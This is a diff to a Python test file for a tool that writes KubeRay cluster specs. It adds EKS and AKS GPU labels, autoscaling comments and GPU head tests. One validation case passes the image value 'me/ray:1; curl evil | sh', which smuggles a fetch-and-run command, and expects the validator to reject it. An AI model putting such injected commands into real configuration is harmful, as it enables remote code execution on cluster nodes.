@@ -5,7 +5,7 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.unit.designed_clusters import TRIALS, a_design, filled_in, gpu_type
+from tests.unit.designed_clusters import GPU_HEAD, TRIALS, a_design, filled_in, gpu_type
 from tune_policies import InvalidResourcesError
 from tune_policies.cluster.accelerators import FAMILIES
 from tune_policies.kuberay.design.catalog import NodeType, Toleration
@@ -51,6 +51,9 @@ EXPECTED = """\
 # 12 trials at once need 3 nodes.
 # A pod asks for all CPUs and all memory of its node type. If Kubernetes has less allocatable on the machine, the pod
 #   waits for ever.
+# A pod waits until Kubernetes has a node for it. With N as maxReplicas of a group: create a node pool for each group
+#   (gcloud container node-pools create POOL --enable-autoscaling --total-min-nodes 0 --total-max-nodes N …), or turn on
+#   node auto-provisioning.
 # Ray's images have neither tune-policies nor a framework such as torch: name an image that has both, or let your job's
 #   runtime environment bring them.
 # Pods without GPUs keep off nodes with GPUs, or they would take the room of workers there: where all your nodes have
@@ -237,6 +240,8 @@ def test_pods_without_nvidias_gpus_are_shown_none_of_them(node_types, variables)
     ("platform", "label"),
     [
         ("gke", "cloud.google.com/gke-accelerator"),
+        ("eks", "k8s.amazonaws.com/accelerator"),
+        ("aks", "kubernetes.azure.com/accelerator"),
         ("karpenter", "karpenter.k8s.aws/instance-gpu-name"),
         ("gpu-operator", "nvidia.com/gpu.present"),
     ],
@@ -365,14 +370,56 @@ def test_an_older_ray_is_told_by_start_parameters():
     assert "resources" not in written
 
 
+def test_on_aks_pods_with_gpus_tolerate_the_taint_that_azure_recommends():
+    tolerations = pod(gpu_type(), platform="aks")["tolerations"]
+
+    assert tolerations[1:] == [{"key": "sku", "operator": "Equal", "value": "gpu", "effect": "NoSchedule"}]
+    assert "tolerations" not in pod(cpu_type(), platform="aks")
+
+
+@pytest.mark.parametrize(
+    ("platform", "says"),
+    [
+        ("gke", "--total-max-nodes N"),
+        ("eks", "managed node group for each group, with minSize 0, maxSize N"),
+        ("aks", "--enable-cluster-autoscaler --min-count 0"),
+        ("karpenter", "a NodePool of Karpenter"),
+        (None, "an autoscaler of nodes"),
+    ],
+)
+def test_a_comment_says_how_the_platform_adds_nodes(platform, says):
+    text = write_cluster(a_design(), WriteOptions(platform=platform)).replace("\n#  ", "")
+
+    assert says in text
+
+
+@pytest.mark.parametrize("ray_version", ["2.50.0", "2.60.0"])
+def test_gpus_are_stated_as_a_start_parameter_on_request(ray_version):
+    written = group(gpu_type(gpus=2), num_gpus=True, ray_version=ray_version)
+
+    assert written["rayStartParams"] == {"num-gpus": "2", "resources": """'{"accelerator_type:L4": 1}'"""}
+    assert "resources" not in written
+    assert written["template"]["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "2"
+
+
+def test_a_head_with_gpus_is_written_as_a_group_with_gpus():
+    head = spec(a_design(head=GPU_HEAD))["headGroupSpec"]
+    ray = head["template"]["spec"]["containers"][0]
+
+    assert (head["rayStartParams"], head["resources"]) == ({}, {"accelerator_type:L4": "1"})
+    assert head["labels"] == {"ray.io/accelerator-type": "L4", "zone": "eu"}
+    assert (ray["image"], ray["resources"]["limits"]["nvidia.com/gpu"]) == ("rayproject/ray:2.60.0-py311-gpu", "2")
+    assert "affinity" not in head["template"]["spec"]
+
+
 def test_a_slice_is_a_replica():
     tpu = cpu_type(name="tpu", custom={"TPU": 4}, accelerator_type="TPU-V6E", topology="4x4")
-    plan = a_design(groups=(DesignedGroup(node_type=tpu, min_nodes=4, start_nodes=8, max_nodes=16, num_hosts=4),))
+    plan = a_design(groups=(DesignedGroup(node_type=tpu, min_nodes=4, max_nodes=16, num_hosts=4),))
 
     written = spec(plan)["workerGroupSpecs"][0]
 
     numbers = [written[field] for field in ("minReplicas", "replicas", "maxReplicas", "numOfHosts")]
-    assert numbers == [1, 2, 4, 4]
+    assert numbers == [1, 1, 4, 4]
 
 
 def test_a_group_starts_with_the_nodes_that_are_always_there():
@@ -385,6 +432,8 @@ def test_a_group_starts_with_the_nodes_that_are_always_there():
     ("platform", "fields", "selector"),
     [
         ("gke", {}, {"cloud.google.com/gke-accelerator": "nvidia-l4"}),
+        ("eks", {}, {"k8s.amazonaws.com/accelerator": "nvidia-l4"}),
+        ("aks", {}, {"kubernetes.azure.com/accelerator": "nvidia"}),
         ("karpenter", {}, {"karpenter.k8s.aws/instance-gpu-name": "l4"}),
         ("gpu-operator", {}, {"nvidia.com/gpu.product": "NVIDIA-L4"}),
         ("gpu-operator", {"device_key": "nvidia.com/gpu.shared"}, {}),
@@ -396,7 +445,7 @@ def test_a_group_starts_with_the_nodes_that_are_always_there():
             {"cloud.google.com/gke-tpu-accelerator": "tpu-v6e-slice", "cloud.google.com/gke-tpu-topology": "2x4"},
         ),
     ],
-    ids=["GKE", "Karpenter", "GPU operator", "parts of GPUs", "any type", "nobody", "TPUs are on GKE alone"],
+    ids=["GKE", "EKS", "AKS", "Karpenter", "GPU operator", "GPU parts", "any type", "nobody", "TPUs are on GKE alone"],
 )
 def test_nodes_are_selected_by_the_labels_of_their_platform(platform, fields, selector):
     assert type_selector(gpu_type(**fields), platform) == selector
@@ -505,7 +554,8 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
         ({"image": ""}, "image"),
         ({"image": "me/ray:1; curl evil | sh"}, "does not name a container image"),
         ({"image": "me/ray:1\n"}, "does not name a container image"),
-        ({"platform": "aks"}, "platform"),
+        ({"platform": "iks"}, "platform"),
+        ({"num_gpus": True, "format": "cluster-yaml"}, "states the GPUs of each node anyway"),
     ],
 )
 def test_wrong_options_are_named(fields, says):
